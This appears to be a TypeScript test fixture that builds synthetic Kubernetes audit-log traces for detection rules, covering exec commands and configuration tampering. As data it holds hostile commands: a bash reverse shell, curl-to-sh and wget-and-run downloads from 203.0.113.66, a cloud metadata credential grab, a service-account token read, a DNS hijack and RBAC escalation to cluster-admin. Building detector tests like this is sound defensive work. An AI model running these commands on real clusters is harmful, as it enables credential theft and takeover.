/**
 * Realistic traces for the wave-3 rules (issue 20: exec command lines, configuration tampering), in the shape of
 * attacks.ts: one case per alerting rule, with the level it must reach at least. Also the exec builders the
 * exec-command scenarios share.
 */
import type { Level } from '../../../src/schema/alert.ts';
import type { RuleCase } from './attacks.ts';
import {
  type Actor,
  audit,
  container,
  type Json,
  min,
  podSpec,
  sec,
  serviceAccount,
  T0,
  user,
  uuid,
} from './k8s.ts';

const at = (m: number, s = 0) => T0 + min(m) + sec(s);

/** An EKS user authenticated through an access entry (the username EKS gives an assumed role). */
export const eksEngineer: Actor = {
  username:
    'arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_PlatformEngineer_4f2a9c7e1b3d5a60/jane.doe@example.com',
  uid: 'aws-iam-authenticator:111122223333:AROARZ7EXAMPLE4JANE',
  groups: ['system:authenticated'],
  extra: {
    accessKeyId: ['ASIARZ7EXAMPLEKEYID'],
    arn: [
      'arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_PlatformEngineer_4f2a9c7e1b3d5a60/jane.doe@example.com',
    ],
    canonicalArn: [
      'arn:aws:iam::111122223333:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_PlatformEngineer_4f2a9c7e1b3d5a60',
    ],
    principalId: ['AROARZ7EXAMPLE4JANE'],
    sessionName: ['jane.doe@example.com'],
  },
  sourceIPs: ['203.0.113.77'],
  userAgent: 'kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350',
};
export const gkeUser = user(
  'sam.lee@example.com',
  '198.51.100.140',
  'kubectl/v1.29.4 (linux/amd64) kubernetes/55019c8',
  ['system:authenticated'],
);
export const aksUser = user(
  'ravi.k@contoso.com',
  '198.51.100.201',
  'kubectl/v1.29.2 (windows/amd64) kubernetes/4b8e819',
  ['3f2c9a71-8d4e-4b1a-9c6f-5e7d2a8b1c40', 'system:authenticated'],
);
export const kubeadmAdmin = user(
  'kubernetes-admin',
  '192.168.56.1',
  'kubectl/v1.31.1 (linux/amd64) kubernetes/948afe5',
  ['kubeadm:cluster-admins', 'system:authenticated'],
);
const mallory = user('mallory@example.com', '203.0.113.45');
const stolen = serviceAccount(
  'payments',
  'payments-api',
  '203.0.113.99',
  'kubectl/v1.30.2 (linux/amd64) kubernetes/3968350',
);

/**
 * `kubectl exec POD -c CONTAINER -- ARGV…`: the API server logs the command as repeated `command=` query parameters
 * (url.Values encoding: sorted keys, `+` for spaces), at ResponseStarted (101) and ResponseComplete, one auditID.
 */
export function execCommand(
  actor: Actor,
  ns: string,
  pod: string,
  argv: string[],
  start: number,
  opts: { container?: string; verb?: string; tty?: boolean } = {},
): Json[] {
  const q = new URLSearchParams();
  for (const a of argv) q.append('command', a);
  q.append('container', opts.container ?? 'app');
  if (opts.tty) {
    q.append('stdin', 'true');
    q.append('stdout', 'true');
    q.append('tty', 'true');
  } else {
    q.append('stderr', 'true');
    q.append('stdout', 'true');
  }
  const id = uuid(`exec:${ns}:${pod}:${start}:${argv.join(' ')}`);
  const ref = { resource: 'pods', namespace: ns, name: pod, subresource: 'exec' };
  const verb = opts.verb ?? 'create';
  const query = q.toString();
  return [
    audit({ at: start, actor, verb, ref, query, code: 101, stage: 'ResponseStarted', auditID: id }),
    audit({
      at: start,
      latencyMs: sec(4),
      actor,
      verb,
      ref,
      query,
      code: 101,
      stage: 'ResponseComplete',
      auditID: id,
    }),
  ];
}

/** `kubectl debug POD --image=IMAGE -- ARGV…`: a strategic merge patch of pods/ephemeralcontainers. */
export function debugContainer(
  actor: Actor,
  ns: string,
  pod: string,
  image: string,
  argv: string[],
  when: number,
): Json {
  return audit({
    at: when,
    actor,
    verb: 'patch',
    ref: { resource: 'pods', namespace: ns, name: pod, subresource: 'ephemeralcontainers' },
    code: 200,
    requestObject: {
      spec: {
        ephemeralContainers: [
          {
            name: `debugger-${uuid(pod).slice(0, 5)}`,
            image,
            command: argv,
            targetContainerName: 'app',
            resources: {},
            terminationMessagePolicy: 'File',
            imagePullPolicy: 'IfNotPresent',
          },
        ],
      },
    },
  });
}

/** The kinds of resources `kubectl get` walks through when someone sweeps a cluster. */
export const SWEEP = [
  'pods',
  'services',
  'deployments',
  'daemonsets',
  'statefulsets',
  'secrets',
  'configmaps',
  'serviceaccounts',
  'roles',
  'rolebindings',
  'clusterroles',
  'clusterrolebindings',
  'nodes',
  'namespaces',
  'ingresses',
  'networkpolicies',
];

export function wave3Cases(): RuleCase[] {
  const cases: RuleCase[] = [];
  const timeOf = (e: Json) => Date.parse(String(e.stageTimestamp));
  const add = (rule: string, level: Level, title: string, events: Json[]) =>
    cases.push({ rule, level, title, events: [...events].sort((a, b) => timeOf(a) - timeOf(b)) });

  add(
    'k8s-exec-cloud-metadata-access',
    'high',
    'IMDSv2 token then role credentials through kubectl exec (EKS)',
    [
      ...execCommand(
        eksEngineer,
        'payments',
        'payments-api-6d8f9b7c5-q7x2m',
        [
          'sh',
          '-c',
          'T=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60"); curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/iam/security-credentials/',
        ],
        at(0),
        { verb: 'get' },
      ),
    ],
  );
  add('k8s-reverse-shell-command', 'critical', 'bash reverse shell through kubectl exec', [
    ...execCommand(
      mallory,
      'shop',
      'checkout-6c8d7f5b9-p2q4r',
      ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'],
      at(0),
    ),
  ]);
  add('k8s-download-and-execute', 'high', 'curl piped into sh in a running pod', [
    ...execCommand(
      mallory,
      'shop',
      'cart-5d6f7b8c9-a1b2c',
      ['sh', '-c', 'curl -fsSL http://203.0.113.66/i.sh | sh'],
      at(0),
    ),
  ]);
  add('k8s-exec-credential-file-read', 'high', 'the service-account token read through kubectl exec', [
    ...execCommand(
      mallory,
      'shop',
      'web-7d9f8c6b5-k4m2n',
      ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
      at(0),
    ),
  ]);
  add('k8s-exec-package-install', 'high', 'apt-get install of nmap in a running container', [
    ...execCommand(
      mallory,
      'shop',
      'web-7d9f8c6b5-h1i2j',
      ['sh', '-c', 'apt-get update && apt-get install -y nmap'],
      at(0),
    ),
  ]);
  add('k8s-exec-tool-drop', 'high', 'a binary downloaded to /tmp and made executable', [
    ...execCommand(
      mallory,
      'shop',
      'web-7d9f8c6b5-t9u0v',
      ['sh', '-c', 'wget -qO /tmp/p http://203.0.113.66/peirates && chmod +x /tmp/p && /tmp/p'],
      at(0),
    ),
  ]);
  add('k8s-coredns-config-changed', 'medium', 'the Corefile gets a hosts entry for sts.amazonaws.com', [
    audit({
      at: at(0),
      actor: eksEngineer,
      verb: 'patch',
      ref: { resource: 'configmaps', namespace: 'kube-system', name: 'coredns' },
      query: 'fieldManager=kubectl-edit&fieldValidation=Strict',
      requestObject: {
        data: {
          Corefile:
            '.:53 {\n    errors\n    hosts {\n        203.0.113.66 sts.amazonaws.com\n        fallthrough\n    }\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n        pods insecure\n    }\n    forward . /etc/resolv.conf\n    cache 30\n}\n',
        },
      },
    }),
  ]);
  add('k8s-cloud-identity-mapping-changed', 'high', 'aws-auth maps an outside role to system:masters', [
    audit({
      at: at(0),
      actor: eksEngineer,
      verb: 'patch',
      ref: { resource: 'configmaps', namespace: 'kube-system', name: 'aws-auth' },
      query: 'fieldManager=kubectl-edit&fieldValidation=Strict',
      requestObject: {
        data: {
          mapRoles:
            '- rolearn: arn:aws:iam::444455556666:role/ops-breakglass\n  username: ops-breakglass\n  groups:\n  - system:masters\n',
        },
      },
    }),
  ]);
  add(
    'k8s-serviceaccount-cloud-identity-annotation',
    'medium',
    'kubectl annotate points a service account at an admin role',
    [
      audit({
        at: at(0),
        actor: eksEngineer,
        verb: 'patch',
        ref: { resource: 'serviceaccounts', namespace: 'payments', name: 'payments-api' },
        query: 'fieldManager=kubectl-annotate',
        requestObject: {
          metadata: {
            annotations: {
              'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/prod-account-admin',
            },
          },
        },
      }),
    ],
  );
  add('k8s-serviceaccount-bound-by-user', 'medium', 'a developer binds edit to a workload service account', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'rolebindings', namespace: 'payments' },
      requestObject: {
        kind: 'RoleBinding',
        apiVersion: 'rbac.authorization.k8s.io/v1',
        metadata: { name: 'payments-api-edit', namespace: 'payments' },
        subjects: [{ kind: 'ServiceAccount', name: 'payments-api', namespace: 'payments' }],
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' },
      },
    }),
  ]);
  add('k8s-serviceaccount-writes-rbac', 'low', 'a stolen token creates a Role', [
    audit({
      at: at(0),
      actor: stolen,
      verb: 'create',
      ref: { resource: 'roles', namespace: 'payments' },
      requestObject: {
        kind: 'Role',
        apiVersion: 'rbac.authorization.k8s.io/v1',
        metadata: { name: 'cache-reader', namespace: 'payments' },
        rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }],
      },
    }),
  ]);
  add('k8s-serviceaccount-grants-rbac', 'medium', 'a stolen token binds itself to cluster-admin', [
    audit({
      at: at(0),
      actor: stolen,
      verb: 'create',
      ref: { resource: 'clusterrolebindings' },
      requestObject: {
        kind: 'ClusterRoleBinding',
        apiVersion: 'rbac.authorization.k8s.io/v1',
        metadata: { name: 'payments-support' },
        subjects: [{ kind: 'ServiceAccount', name: 'payments-api', namespace: 'payments' }],
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      },
    }),
  ]);
  add(
    'k8s-pod-with-controller-serviceaccount',
    'high',
    'a kube-system pod runs as clusterrole-aggregation-controller',
    [
      audit({
        at: at(0),
        actor: kubeadmAdmin,
        verb: 'create',
        ref: { resource: 'pods', namespace: 'kube-system', name: 'metrics-helper' },
        requestObject: {
          kind: 'Pod',
          apiVersion: 'v1',
          metadata: { name: 'metrics-helper', namespace: 'kube-system' },
          spec: podSpec(
            [container('helper', 'bitnami/kubectl:1.30', undefined, { command: ['sleep', 'infinity'] })],
            {
              serviceAccountName: 'clusterrole-aggregation-controller',
            },
          ),
        },
      }),
    ],
  );
  add(
    'k8s-resource-type-discovery',
    'medium',
    'a stolen token lists sixteen kinds of resources in half a minute',
    SWEEP.map((resource, i) =>
      audit({ at: at(0, i * 2), actor: stolen, verb: 'list', ref: { resource }, query: 'limit=500' }),
    ),
  );
  add('k8s-self-review-by-workload-identity', 'medium', 'a stolen token asks kubectl auth can-i --list', [
    audit({
      at: at(0),
      actor: stolen,
      verb: 'create',
      ref: { resource: 'selfsubjectrulesreviews' },
      requestObject: {
        kind: 'SelfSubjectRulesReview',
        apiVersion: 'authorization.k8s.io/v1',
        spec: { namespace: 'payments' },
      },
    }),
  ]);
  return cases;
}
